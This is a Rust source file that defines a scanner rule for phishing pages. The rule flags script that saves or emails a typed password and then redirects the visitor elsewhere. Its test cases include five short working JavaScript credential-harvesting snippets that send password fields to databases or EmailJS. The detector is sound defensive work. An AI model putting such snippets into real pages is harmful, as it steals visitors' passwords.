//! `secret-kept-then-away`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-kept-then-away",
    description: "The script stores or mails a typed password as it is and sends the visitor to another site.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::Kept, Atom::MailClient]),
        one(&[Atom::FieldValue, Atom::FormContents]),
        one(&[Atom::SentAway]),
    ],
    within: 160,
    only_if: Some(keeps),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "f.onsubmit=async e=>{e.preventDefault();await db.from('logs').insert({email:m.value,password:document.getElementById('password').value});location.href='https://photos.example/'}",
            "emailjs.send('s','t',{username:u,password:document.getElementById('password').value}).then(function(){location.href='https://photos.example'})",
            "const p=document.getElementById('password').value;addDoc(collection(db,'users'),{user:u.value,password:p}).then(()=>{window.location.href='https://photos.example/'})",
            "set(ref(db,'people/'+n),{name:n,password:document.getElementById('pw').value}).then(()=>{alert('Thanks');window.location.href='https://photos.example/'})",
            "firebase.database().ref('logs').push({mail:m.value,password:p.value});window.location.href='https://photos.example/'",
        ],
        without: &[
            "emailjs.send('s','t',{to:document.getElementById('mail').value,password:makeWord()}).then(()=>{location.href='https://app.example/'})",
            "await auth.signInWithPassword({email:m.value,password:p.value});await db.from('log').insert({at:Date.now()});location.href='https://app.example/'",
            "await db.from('people').insert({name:n.value,email:m.value});location.href='https://app.example/'",
            "await db.from('people').insert({email:m.value,password:p.value});location.href='/home'",
        ],
    },
};

/// Whether what is kept has a password among its keys, just behind the call, and one that was typed: not what a function made up.
fn keeps(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 4);
    near.words(&["insert", "addDoc", "setDoc", "emailjs", "Email", "set", "push", "update", "add"]).any(
        |call| {
            let sent = near.among(call + 1..call + 36);
            sent.words(&["password", "pass", "passwd", "pwd", "pin"]).any(|key| {
                let made = sent.is(key + 3, b'(')
                    && sent.kind(key + 2) == Some(Kind::Name)
                    && sent.word(key + 2) != "$";
                sent.is(key + 1, b':') && !made || sent.is(key + 1, b',') || sent.is(key + 1, b'}')
            })
        },
    )
}
